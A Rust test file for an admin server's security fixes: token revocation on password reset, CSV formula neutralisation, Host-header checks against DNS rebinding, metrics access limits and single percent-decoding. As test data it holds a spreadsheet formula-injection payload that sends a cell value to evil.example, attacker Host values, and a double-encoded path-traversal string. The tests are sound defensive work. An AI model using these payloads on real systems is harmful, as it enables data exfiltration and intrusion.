//! Smaller holes of the admin side (issue 19, item 7): API tokens end with a password
//! reset, CSV downloads carry no formulas, the admin listener answers only to its own
//! names, and `/metrics` is not for anyone who can reach the port.

use crate::common::*;

#[test]
fn api_tokens_stop_working_when_their_users_password_is_reset() {
    let server = ZServer::start();
    let token = user_with_token(&server, "ops", "admin", "");
    let r = api(&server, "GET", "/profiles", Some(&token), "");
    assert_eq!(r.status, 200, "{}", r.text());
    let out = server.cli_ok(&["user", "passwd", "ops"]);
    assert!(out.contains("one-time password"), "{out}");
    let r = api(&server, "GET", "/profiles", Some(&token), "");
    assert_eq!(
        r.status,
        401,
        "a token outlived its user's reset: {}",
        r.text()
    );
    // The audit log says so.
    let audit = server.cli_ok(&["audit", "--json"]);
    assert!(audit.contains("tokens_revoked"), "{audit}");
}

/// Every cell of a CSV that a spreadsheet would evaluate.
fn formulas(csv: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes());
    r.records()
        .flat_map(|rec| {
            rec.expect("csv")
                .iter()
                .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
                .map(String::from)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn csv_downloads_carry_no_formulas_and_still_round_trip() {
    let server = ZServer::start();
    let token = user_with_token(&server, "bot", "admin", "");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let csv = write_file(
        server.dir.path(),
        "contacts.csv",
        format!(
            "first_name,last_name,contact\n\"{}\",-Berg,+4930123\n",
            evil.replace('"', "\"\"")
        )
        .as_bytes(),
    );
    server.cli_ok(&["assets", "directory", "import", csv.to_str().expect("path")]);
    let before = json(&api(&server, "GET", "/assets/directory", Some(&token), ""));
    assert_eq!(before["contacts"][0]["first_name"], evil);
    let download = api(&server, "GET", "/assets/directory.csv", Some(&token), "").text();
    assert!(formulas(&download).is_empty(), "{download}");
    assert!(download.contains("'+4930123"), "{download}");
    // Read back, the values are exactly what they were.
    let again = write_file(server.dir.path(), "again.csv", download.as_bytes());
    server.cli_ok(&[
        "assets",
        "directory",
        "import",
        again.to_str().expect("path"),
    ]);
    let after = json(&api(&server, "GET", "/assets/directory", Some(&token), ""));
    assert_eq!(before["contacts"], after["contacts"]);

    // An export's CSV: a policy value that is a formula.
    server.cli_ok(&["policy", "set", "account", "up.welcomeText", evil]);
    let export = server.cli_ok(&["transfer", "export", "--format", "csv"]);
    assert!(formulas(&export).is_empty(), "{export}");
    let file = write_file(server.dir.path(), "export.csv", export.as_bytes());
    server.cli_ok(&["policy", "unset", "account", "up.welcomeText"]);
    server.cli_ok(&["transfer", "import", file.to_str().expect("path")]);
    assert!(
        server.cli_ok(&["policy", "list"]).contains(evil),
        "the value comes back exactly"
    );
}

/// A request to the admin listener with a chosen Host header.
fn with_host(server: &ZServer, path: &str, host: &str, extra: &[(&str, &str)]) -> Resp {
    let mut conn = Conn::open(server.admin);
    let mut req = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n");
    for (k, v) in extra {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    conn.send(req.as_bytes());
    conn.read_response(false).expect("response")
}

#[test]
fn the_admin_listener_answers_only_to_its_own_names() {
    let server = ZServer::start_with("admin.names = [\"zt.example.com\"]");
    let port = server.admin.port();
    for host in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        "zt.example.com".to_string(),
        format!("ZT.example.com:{port}"),
        format!("[::1]:{port}"),
    ] {
        let r = with_host(&server, "/login", &host, &[]);
        assert_ne!(r.status, 421, "{host}: {}", r.text());
    }
    // DNS rebinding: a page on attacker.example whose name now resolves to this server.
    for host in [
        "attacker.example",
        "attacker.example:8081",
        "zt.example.com.evil",
    ] {
        let r = with_host(&server, "/login", host, &[]);
        assert_eq!(r.status, 421, "{host}: {}", r.text());
        assert!(r.text().contains("admin.names"), "{}", r.text());
        let r = with_host(&server, "/api/v1/profiles", host, &[]);
        assert_eq!(r.status, 421, "{host}");
    }
    // Bad configuration names the key.
    let bad = write_file(
        server.dir.path(),
        "bad.toml",
        b"[admin]\nnames = [\"https://x\"]\nmetrics_allow = [\"nope\"]\n",
    );
    let out = std::process::Command::new(bin())
        .args(["check-config"])
        .arg(&bad)
        .output()
        .expect("check-config");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!out.status.success(), "{text}");
    assert!(
        text.contains("admin.names[0]") && text.contains("admin.metrics_allow[0]"),
        "{text}"
    );
}

#[test]
fn metrics_and_health_are_for_loopback_allowed_addresses_and_tokens() {
    // Listening on every address, so that a non-loopback address of this host can connect.
    let server = ZServer::start_with("admin.listen = \"0.0.0.0:0\"");
    let port = server.admin.port();
    let token = user_with_token(&server, "monitor", "viewer", "");
    // Loopback: served.
    for path in ["/metrics", "/healthz", "/readyz", "/health"] {
        let r = with_host(&server, path, "127.0.0.1", &[]);
        assert_eq!(r.status, 200, "{path}: {}", r.text());
    }
    // From another address of this host, not loopback: refused without a token.
    let Some(other) = local_non_loopback() else {
        eprintln!("no non-loopback address on this host; the remote half is skipped");
        return;
    };
    let remote = |path: &str, extra: &[(&str, &str)]| -> Resp {
        let mut conn = Conn::open(std::net::SocketAddr::new(other, port));
        let mut req = format!("GET {path} HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n");
        for (k, v) in extra {
            req.push_str(&format!("{k}: {v}\r\n"));
        }
        req.push_str("\r\n");
        conn.send(req.as_bytes());
        conn.read_response(false).expect("response")
    };
    for path in ["/metrics", "/healthz", "/health"] {
        let r = remote(path, &[]);
        assert_eq!(r.status, 401, "{path}: {}", r.text());
        let auth = format!("Bearer {token}");
        let r = remote(path, &[("Authorization", &auth)]);
        assert_eq!(r.status, 200, "{path} with a token: {}", r.text());
    }
}

/// A non-loopback address of this host, if it has one (found through a UDP socket's route;
/// nothing is sent).
fn local_non_loopback() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

#[test]
fn admin_paths_are_percent_decoded_exactly_once() {
    let server = ZServer::start();
    let site = write_file(server.dir.path(), "site.cfg", b"<polycomConfig/>");
    server.cli_ok(&[
        "profile",
        "add",
        "office",
        "--file",
        site.to_str().expect("path"),
    ]);
    let token = user_with_token(&server, "bot", "admin", "");
    let s = Session::admin(&server);
    // Encoded once: the name itself.
    let r = s.get("/profiles/%6fffice");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        api(&server, "GET", "/profiles/%6fffice", Some(&token), "").status,
        200
    );
    // Encoded twice: a name with a `%` in it, never decoded again (`%252e%252e%252f` must
    // never become `../`).
    for path in ["/profiles/%256fffice", "/profiles/%252e%252e%252fusers"] {
        let r = s.get(path);
        assert_eq!(r.status, 404, "{path}: {}", r.text());
        let r = api(&server, "GET", path, Some(&token), "");
        assert_eq!(r.status, 404, "{path}: {}", r.text());
    }
}
